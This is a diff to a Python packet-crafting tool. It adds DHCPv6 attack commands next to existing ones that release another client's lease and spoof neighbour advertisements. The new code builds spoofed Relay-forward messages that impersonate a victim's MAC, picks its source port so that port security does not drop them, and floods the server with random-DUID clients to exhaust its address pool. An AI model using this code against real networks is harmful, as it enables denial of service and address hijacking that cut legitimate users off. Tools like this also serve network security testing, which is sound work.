@@ -4,6 +4,17 @@
 #   craft.py dhcp-release IFNAME CHADDR CIADDR SERVER        a DHCPRELEASE for someone else's lease
 #   craft.py na IFNAME TARGET                                an unsolicited neighbour advertisement
 #                                                            claiming TARGET (override) for our MAC
+#   craft.py dhcp6-relay IFNAME DST LINK_ADDR VICTIM_MAC     a DHCPv6 Relay-forward to port 547
+#                                                            wrapping a Solicit, option 79 naming
+#                                                            VICTIM_MAC; prints the type of any
+#                                                            answer within 2 s, or "none"
+#   craft.py dhcp6-flood IFNAME COUNT                        COUNT DHCPv6 clients, each with a DUID
+#                                                            of its own: Solicit, then Request of
+#                                                            what was advertised; prints
+#                                                            "advertised N replied N" (a client
+#                                                            without an Advertise in 1 s is skipped)
+import os
+import select
 import socket
 import struct
 import sys
@@ -56,5 +67,81 @@ def na(ifname, target):
     s.sendto(msg, ("ff02::1", 0, 0, socket.if_nametoindex(ifname)))
 
 
+def opt6(code, data):
+    return struct.pack("!HH", code, len(data)) + data
+
+
+def dhcp6_options(msg):
+    """The options of a DHCPv6 client/server message (after type and transaction id), by code."""
+    opts, i = {}, 4
+    while i + 4 <= len(msg):
+        code, n = struct.unpack("!HH", msg[i:i + 4])
+        opts.setdefault(code, msg[i + 4:i + 4 + n])
+        i += 4 + n
+    return opts
+
+
+def solicit(duid, iaid, xid=0x123456):
+    # Solicit (1): client identifier (1), elapsed time (8), IA_NA (3) with T1 and T2 0.
+    return (struct.pack("!I", 1 << 24 | xid) + opt6(1, duid) + opt6(8, b"\0\0") +
+            opt6(3, struct.pack("!III", iaid, 0, 0)))
+
+
+def dhcp6_socket(ifname, port):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifname.encode())
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("::", port))
+    return s
+
+
+def dhcp6_relay(ifname, dst, link_addr, victim_mac):
+    victim = mac_bytes(victim_mac)
+    eui = bytes([victim[0] ^ 2]) + victim[1:3] + b"\xff\xfe" + victim[3:]
+    peer = b"\xfe\x80" + bytes(6) + eui
+    inner = solicit(b"\0\3\0\1" + victim, int.from_bytes(victim[2:], "big"))
+    # Relay-forward (12): hop count, link-address, peer-address; relay message (9), client
+    # link-layer address (79: hardware type 1, the MAC).
+    msg = bytes([12, 0]) + socket.inet_pton(socket.AF_INET6, link_addr) + peer
+    msg += opt6(9, inner) + opt6(79, b"\0\1" + victim)
+    # From a port of its own (port security drops a guest's source port 547, a server's or
+    # relay's); the answer may come to that port or to 547.
+    s, s547 = dhcp6_socket(ifname, 0), dhcp6_socket(ifname, 547)
+    s.sendto(msg, (dst, 547, 0, socket.if_nametoindex(ifname)))
+    r, _, _ = select.select([s, s547], [], [], 2)
+    print(f"answer {r[0].recv(4096)[0]}" if r else "none")
+
+
+def dhcp6_flood(ifname, count):
+    s = dhcp6_socket(ifname, 546)
+    dst = ("ff02::1:2", 547, 0, socket.if_nametoindex(ifname))
+    advertised = replied = 0
+    for i in range(int(count)):
+        duid = b"\0\4" + os.urandom(16)  # DUID-UUID: a client of its own, no MAC inside
+        xid = (i * 2 + 1) & 0xFFFFFF
+        s.sendto(solicit(duid, i, xid), dst)
+        adv = None
+        while select.select([s], [], [], 1)[0]:
+            m = s.recv(4096)
+            if m[0] == 2 and int.from_bytes(m[1:4], "big") == xid and 2 in dhcp6_options(m):
+                adv = m
+                break
+        if not adv:
+            continue
+        advertised += 1
+        o = dhcp6_options(adv)
+        # Request (3): client id, server id, elapsed time, the IA_NA as advertised.
+        req = struct.pack("!I", 3 << 24 | (xid + 1)) + opt6(1, duid) + opt6(2, o[2]) + opt6(8, b"\0\0")
+        req += opt6(3, o.get(3, struct.pack("!III", i, 0, 0)))
+        s.sendto(req, dst)
+        while select.select([s], [], [], 1)[0]:
+            m = s.recv(4096)
+            if m[0] == 7 and int.from_bytes(m[1:4], "big") == xid + 1:
+                replied += 1
+                break
+    print(f"advertised {advertised} replied {replied}")
+
+
 cmd = sys.argv[1]
-{"udp-to-mac": udp_to_mac, "dhcp-release": dhcp_release, "na": na}[cmd](*sys.argv[2:])
+{"udp-to-mac": udp_to_mac, "dhcp-release": dhcp_release, "na": na, "dhcp6-relay": dhcp6_relay,
+ "dhcp6-flood": dhcp6_flood}[cmd](*sys.argv[2:])
